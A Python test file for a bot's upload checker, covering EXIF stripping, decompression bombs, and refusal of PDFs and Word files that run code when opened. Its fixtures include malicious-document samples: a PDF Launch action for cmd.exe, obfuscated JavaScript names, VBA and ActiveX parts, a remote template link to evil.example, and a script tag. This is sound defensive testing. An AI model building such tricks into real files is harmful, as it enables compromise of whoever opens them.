"""E.5: files are known by their content, not by their name, and nothing that acts is kept."""

import io
import random
import struct
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from bot.incoming.checked import Checked, Refused
from bot.incoming.look import KINDS, look
from bot.incoming.pictures import PIXELS_MAX, SIDE_MAX, THUMBNAIL
from handlers.filing import FILES
from tests.bot.incoming.samples import PLACE, PLAIN_OBJECT, doc, docx, packed, pdf, photo, stream

LIMIT = 20_000_000


def size_of(data):
    with Image.open(io.BytesIO(data)) as picture:
        return picture.size


def why_not(data, limit=LIMIT):
    with pytest.raises(Refused) as refused:
        look(data, limit)
    return refused.value.why


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_photo_becomes_a_jpeg_without_where_it_was_taken(kind):
    sent = photo(kind=kind)
    kept = look(sent, LIMIT)

    assert PLACE in sent
    assert (kept.kind, kept.mime) == ("picture", "image/jpeg")
    for data in (kept.data, kept.thumbnail):
        assert data.startswith(b"\xff\xd8\xff")
        assert PLACE not in data
        assert b"Exif" not in data


def test_photo_held_sideways_stands_upright():
    assert size_of(look(photo(60, 40, turned=True), LIMIT).data) == (40, 60)


def test_large_photo_is_made_small_enough_to_read_and_smaller_to_look_through():
    kept = look(photo(4000, 2000), LIMIT)

    assert size_of(kept.data) == (SIDE_MAX, SIDE_MAX // 2)
    assert size_of(kept.thumbnail) == (THUMBNAIL, THUMBNAIL // 2)


def test_transparent_picture_lies_on_white_paper():
    out = io.BytesIO()
    Image.new("RGBA", (8, 8), (0, 0, 0, 0)).save(out, "PNG")
    with Image.open(io.BytesIO(look(out.getvalue(), LIMIT).data)) as kept:
        assert kept.getpixel((4, 4)) == (255, 255, 255)


def test_picture_that_unfolds_to_gigabytes_is_refused_before_it_is_decoded():
    side = int(PIXELS_MAX**0.5) + 1
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
    assert why_not(bomb) == "too_many_pixels"


def test_pdf_is_kept_as_it_is():
    sent = pdf(PLAIN_OBJECT, packed(b"<< /Type /Page >>"), stream(b"/Length 3", b"/JS"))

    assert look(sent, LIMIT) == Checked(kind="pdf", mime="application/pdf", data=sent)


@pytest.mark.parametrize(
    "acting",
    [
        b"3 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj",
        b"3 0 obj << /S /J#61vaScript >> endobj",
        b"3 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj",
        b"3 0 obj << /Type /EmbeddedFile >> endobj",
        packed(b"<< /S /JavaScript /JS 9 0 R >>"),
        packed(b"<< /S /L#61unch >>").replace(b"/ObjStm", b"/Obj#53tm"),
    ],
)
def test_pdf_that_does_something_when_opened_is_refused(acting):
    assert why_not(pdf(PLAIN_OBJECT, acting)) == "acts"


def test_locked_pdf_is_refused():
    assert why_not(pdf(PLAIN_OBJECT).replace(b"/Root", b"/Encrypt 4 0 R /Root")) == "locked"


def test_pdf_that_unfolds_to_gigabytes_is_refused():
    assert why_not(pdf(packed(b"\0" * 70_000_000))) == "too_large"


@pytest.mark.parametrize("sent", [pdf(PLAIN_OBJECT)[:-8], pdf(packed(b"x").replace(b"x\x9c", b"??"))])
def test_pdf_that_is_broken_is_refused(sent):
    assert why_not(sent) == "broken"


@pytest.mark.parametrize("sent", [docx(), docx({"word/embeddings/oleObject1.bin": "E\0q\0u\0a\0t\0i\0o\0n\0"})])
def test_word_file_is_kept_as_it_is(sent):
    assert look(sent, LIMIT).kind == "word"
    assert look(sent, LIMIT).data == sent


LOCAL = '<Relationship Type="x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>'
REMOTE = '<Relationship Target="https://evil.example/t.dotm" Type="x/attachedTemplate" TargetMode="External"/>'


def test_word_file_of_a_template_on_its_writers_disk_is_kept():
    assert look(docx({"word/_rels/settings.xml.rels": LOCAL}), LIMIT).kind == "word"


@pytest.mark.parametrize(
    "sent",
    [
        docx({"word/vbaProject.bin": "Sub AutoOpen"}),
        docx({"word/VBAPROJECT.BIN": "Sub AutoOpen"}),
        docx({"word/activeX/activeX1.xml": "<ax/>"}),
        docx({"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le")}),
        docx({"word/_rels/settings.xml.rels": REMOTE}),
    ],
)
def test_word_file_with_a_program_in_it_is_refused(sent):
    assert why_not(sent) == "acts"


def test_word_file_whose_contents_name_macros_is_refused():
    macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    assert why_not(docx({"[Content_Types].xml": macros})) == "acts"


def test_other_packed_files_are_no_word_files():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("xl/workbook.xml", "<workbook/>")
    assert why_not(out.getvalue()) == "kind"


def test_packed_file_that_unfolds_to_gigabytes_is_refused():
    assert why_not(docx({"word/media/a.emf": b"\0" * 301_000_000})) == "too_large"


def test_old_word_file_is_kept():
    assert look(doc(), LIMIT).mime == "application/msword"


@pytest.mark.parametrize(
    ("sent", "why"),
    [
        (doc("_VBA_PROJECT"), "acts"),
        (doc("\x01Ole10Native"), "acts"),
        (doc("EncryptedPackage"), "locked"),
        (doc().replace("WordDocument".encode("utf-16-le"), b""), "kind"),
        (b"MZ\x90\0", "kind"),
        (b"<script>alert(1)</script>", "kind"),
        (b"", "kind"),
        (b"\x89PNG\r\n\x1a\n not much of a picture", "broken"),
        (photo()[:300], "broken"),
        (b"PK\x03\x04 nothing packed", "broken"),
    ],
)
def test_what_is_no_such_file_or_acts_is_refused(sent, why):
    assert why_not(sent) == why


def test_too_large_a_file_is_refused_whatever_it_is():
    assert why_not(photo(), limit=100) == "too_large"


@pytest.mark.filterwarnings("ignore::UserWarning")  # of the library, about what a damaged camera wrote
@given(st.sampled_from([mark.rjust(place + len(mark), b"\0") for place, mark, _ in KINDS]), st.binary(max_size=2000))
def test_no_bytes_make_the_look_fail_in_another_way(mark, rest):
    try:
        look(mark + rest, LIMIT)
    except Refused as refusal:
        why = refusal.why
    else:
        why = "kept"
    assert f"refused.{why}" in FILES or why == "kept"


@pytest.mark.filterwarnings("ignore::UserWarning")
@pytest.mark.parametrize(
    "sent",
    [photo(), photo(kind="PNG"), photo(kind="WEBP"), pdf(PLAIN_OBJECT, packed(b"<< /Type /Page >>")), docx(), doc()],
)
def test_no_damage_to_a_file_makes_the_look_fail_in_another_way(sent):
    dice = random.Random(6)
    for _ in range(300):
        damaged = bytearray(sent)
        for _ in range(dice.randint(1, 8)):
            damaged[dice.randrange(len(damaged))] = dice.randrange(256)
        try:
            look(bytes(damaged), LIMIT)
        except Refused:
            continue
